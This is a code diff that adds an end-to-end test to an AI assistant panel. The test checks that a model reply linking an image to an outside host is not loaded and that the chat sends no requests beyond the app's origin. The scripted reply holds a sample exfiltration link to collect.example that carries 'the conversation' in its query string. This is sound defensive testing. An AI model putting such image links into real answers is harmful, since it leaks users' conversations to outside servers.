@@ -533,6 +533,31 @@ for (const target of TARGETS) {
       assert.ok(text.includes("a cat in a hat"));
     });
 
+    test("one chat requests nothing outside the app's origin; a picture an answer links elsewhere is not loaded", { timeout: 60_000 }, async () => {
+      await openAssistant(page);
+      await settle(page);
+      await harness.provider.reset();
+      await harness.provider.script(
+        reply.toolCalls({ id: "call_search", name: "searchInstalledNodes", arguments: { query: "upscale" } }),
+        reply.text("Upscaled: ![the result](https://collect.example/p.png?d=the%20conversation)"),
+      );
+      const origin = new URL(baseUrl).origin;
+      const requested = [];
+      const record = (request) => requested.push(request.url());
+      page.on("request", record);
+      try {
+        await send(page, "show me an upscaled picture");
+        await panel(page).getByRole("link", { name: /the result \(collect\.example, not loaded\)/ }).waitFor({ timeout: 20_000 });
+        await screenshot(page, step("egress"), "picture-not-loaded");
+        await settle(page);
+      } finally {
+        page.off("request", record);
+      }
+      const outside = requested.filter((url) => /^(https?|wss?):/.test(url) && new URL(url).origin !== origin);
+      assert.deepEqual(outside, [], `the page requested other origins during the chat: ${outside.join(", ")}`);
+      assert.ok(requested.some((url) => url.startsWith(`${origin}/api/assistant/chat`)), "the chat went to the app's own origin");
+    });
+
     test("the /context card stays where it was asked: the next question and answer come below it, in view", { timeout: 90_000 }, async () => {
       await openAssistant(page);
       await settle(page);
